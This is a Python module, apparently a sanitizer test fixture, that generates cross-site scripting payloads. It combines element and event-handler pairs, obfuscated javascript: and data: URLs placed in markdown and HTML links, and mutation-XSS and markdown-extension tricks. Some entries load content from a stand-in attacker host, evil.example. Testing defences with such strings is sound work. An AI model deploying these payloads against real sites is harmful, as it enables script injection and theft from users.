"""Hostile texts: what an attacker writes, generated from parts, and what must never come out."""

from __future__ import annotations

from itertools import product

CALLS = ("alert(1)", "fetch('//evil.example')")
ELEMENTS = (
    *("img src=x", "svg", "body", "iframe src=x", "input autofocus", "video src=x", "details open"),
    *("marquee", "object data=x", "math", "a href=x", "div", "p", "td", "style", "link rel=x"),
)
HANDLERS = ("onload", "onerror", "onfocus", "ontoggle", "onmouseover", "onclick")
SCHEMES = (
    *("javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "java\tscript:{}", "java&#10;script:{}"),
    *("&#106;avascript:{}", "&#x6a;avascript:{}", "javascript&colon;{}", "vbscript:{}"),
    *(
        "data:text/html,<script>{}</script>",
        "data:image/svg+xml,<svg onload={}>",
        "\x01javascript:{}",
    ),
)
PLACES = (
    *("[a]({})", "![a]({})", "<a href='{}'>a</a>", "[a][r]\n\n[r]: {}", "<{}>", "<img src='{}'>"),
    *(
        "x[a]({})x",
        "{{button start}}[a]({}){{/button}}",
        "<form action='{}'><button>a</button></form>",
    ),
    *("[a](<{}>)", "<iframe src='{}'></iframe>", "<svg><a xlink:href='{}'>a</a></svg>"),
)
OTHERS = (
    "<script>{}</script>",
    "<scr<script>ipt>{}</script>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror={}>'>",
    "<svg><style><img src=x onerror={}></style></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<!--<img src='--><img src=x onerror={}>-->",
    "<template><img src=x onerror={}></template>",
    "<table><td>{{: onclick='{}'}}</td></table>",
    "*a*{{: onmouseover='{}' style='x'}}",
    'paragraph\n{{: onclick="{}" #x}}',
    "{{::nomarkdown}}<script>{}</script>{{:/}}",
    "{{::nomarkdown}}\n<img src=x onerror={}>\n{{:/}}",
    "$CTA\n<script>{}</script>\n$CTA",
    "^<img src=x onerror={}>^",
    "%<script>{}</script>%",
    "$A\n<img src=x onerror={}>\n$A",
    "s1. <svg onload={}>",
    ":wales:<script>{}</script>:wales:",
    "|<script>{}</script>|\n|-|\n|<img src=x onerror={}>|",
    "[^1]\n\n[^1]: <img src=x onerror={}>",
    '*[A]: " onmouseover={} x="\n\nA',
    '## <img src=x onerror={}> {{#" onclick={}}}',
    "<div markdown='1' onclick='{}'>\n<script>{}</script>\n</div>",
    '~~~ "onload={}\n~~~~',
    "`</code><script>{}</script>`",
    "<plaintext><img src=x onerror={}>",
    "<xmp><script>{}</script></xmp>",
    "<textarea><script>{}</script></textarea>",
    "<base href='//evil.example/'><script>{}</script>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<style>@import '//evil.example/{}';</style>",
    "<p style='background:url(javascript:{})'>a</p>",
    "{{barchart' onclick='{}'}}",
)


def payloads() -> list[str]:
    """Return every hostile text."""
    call = CALLS[0]
    handlers = [
        f"<{element} {handler}={call}>a" for element, handler in product(ELEMENTS, HANDLERS)
    ]
    addresses = [place.format(scheme.format(call)) for place, scheme in product(PLACES, SCHEMES)]
    others = [text.replace("{}", call).format() for text in OTHERS]
    return handlers + addresses + others
